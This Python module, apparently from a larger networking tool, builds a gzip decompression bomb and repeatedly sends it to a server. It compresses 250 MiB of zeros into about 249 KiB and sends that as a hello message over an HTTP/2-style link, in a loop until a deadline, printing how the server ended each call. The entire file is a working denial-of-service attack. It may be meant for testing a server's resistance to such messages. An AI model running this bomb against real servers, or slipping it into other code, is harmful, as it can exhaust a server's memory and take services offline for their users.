"""A compressed message of 249 KiB that becomes 250 MiB, sent in place of a hello, again and again."""

from __future__ import annotations

import time
import zlib
from collections.abc import Sequence
from pathlib import Path

from .http2 import Link, arguments

__all__ = ["attack", "bomb"]

MEBIBYTE = 1 << 20


def bomb(mebibytes: int = 250) -> bytes:
    """So many MiB of zeros, as gzip writes them."""
    made = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*(made.compress(bytes(MEBIBYTE)) for _ in range(mebibytes)), made.flush()])


def attack(port: int, keys: Path, name: str, message: bytes) -> str:
    """Send it once; how the server ended the call, empty if it did not within 5 seconds."""
    link = Link(port, keys, name, encoding="gzip")
    try:
        link.say(message, compressed=True)
        link.pump(5, lambda: bool(link.messages))
        return link.ended
    finally:
        link.close()


def main(argv: Sequence[str] | None = None) -> None:
    told = arguments(__doc__ or "").parse_args(argv)
    message, deadline = bomb(), time.monotonic() + told.seconds
    while time.monotonic() < deadline:
        try:
            print(attack(told.port, told.keys, told.name, message), flush=True)
        except OSError:
            time.sleep(0.2)


if __name__ == "__main__":
    main()
